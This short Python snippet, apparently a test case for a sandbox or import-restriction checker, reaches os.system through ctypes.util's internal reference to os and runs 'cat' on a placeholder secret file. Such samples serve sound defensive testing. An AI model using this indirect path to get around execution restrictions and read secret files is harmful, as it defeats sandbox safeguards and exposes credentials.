# ctypes.util starts gcc and ld; it keeps os and subprocess.
# effect: run
import ctypes.util
ctypes.util.os.system("cat @SECRET@")
